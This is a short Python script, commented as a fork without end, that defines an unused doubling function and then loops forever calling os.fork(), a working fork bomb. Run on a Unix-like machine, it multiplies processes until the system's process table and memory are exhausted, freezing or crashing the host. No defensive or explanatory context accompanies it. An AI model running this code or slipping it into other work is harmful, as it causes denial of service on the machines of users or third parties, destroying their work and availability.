# Fork without end: every child forks again.
import os


def double(x):
    return 2 * x


while True:
    os.fork()
